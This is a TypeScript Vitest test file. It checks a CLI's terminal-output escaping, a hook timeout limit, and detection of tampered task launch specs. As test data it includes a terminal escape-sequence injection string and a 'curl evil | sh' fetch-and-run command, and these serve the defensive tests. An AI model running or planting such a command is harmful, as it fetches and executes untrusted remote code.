/**
 * Small guards from issue 12: ids printed to a terminal cannot carry escape sequences, a
 * hook time limit cannot overflow Node's timer, and a stored launch spec that differs from
 * the deployed policy is named field by field.
 */
import { describe, expect, it } from 'vitest';
import { MAX_TIMER_SECONDS, timerSeconds } from '../../bin/cli/options.js';
import { formatTable, terminalSafe } from '../../bin/cli/output.js';
import { launchSpecMismatch } from '../../lambdas/domain/run-task.js';

describe('terminalSafe', () => {
  it('escapes ANSI and OSC sequences and other control characters, keeps text, newlines and tabs', () => {
    const id = '20261127T081735.123Z-9f3c2a1b\u001b]0;pwned\u0007\u001b[2J';
    expect(terminalSafe(id)).toBe('20261127T081735.123Z-9f3c2a1b\\x1b]0;pwned\\x07\\x1b[2J');
    expect(terminalSafe('a\tb\nc é')).toBe('a\tb\nc é');
    expect(terminalSafe('\u009b31m')).toBe('\\x9b31m');
    expect(formatTable(['ID'], [['x\u001b[31m']])).toBe('ID\nx\\x1b[31m\n');
  });
});

describe('timerSeconds', () => {
  it('refuses a limit longer than a Node timer can wait, naming the flag and the maximum', () => {
    const parse = timerSeconds('--hook-timeout');
    expect(parse('600')).toBe(600);
    expect(parse(String(MAX_TIMER_SECONDS))).toBe(MAX_TIMER_SECONDS);
    expect(() => parse('2200000')).toThrow(`--hook-timeout is 2200000 seconds; the longest time limit is ${MAX_TIMER_SECONDS} seconds`);
    expect(() => parse('0')).toThrow(/positive number/);
  });
});

describe('launchSpecMismatch', () => {
  const deployed = { cluster: 'c', taskDefinition: 'td:1', containerName: 'app', subnets: ['subnet-a'], assignPublicIp: false };
  it('accepts the deployed spec and names the first field that differs', () => {
    expect(launchSpecMismatch({ ...deployed }, deployed)).toBeUndefined();
    expect(launchSpecMismatch({ ...deployed, subnets: ['subnet-evil'] }, deployed)).toBe(
      'its launch setting subnets is ["subnet-evil"], but the deployed policy says ["subnet-a"]',
    );
    expect(launchSpecMismatch({ ...deployed, verifyCommand: 'curl evil | sh' }, deployed)).toMatch(
      /verifyCommand is "curl evil \| sh", but the deployed policy says unset/,
    );
  });
});
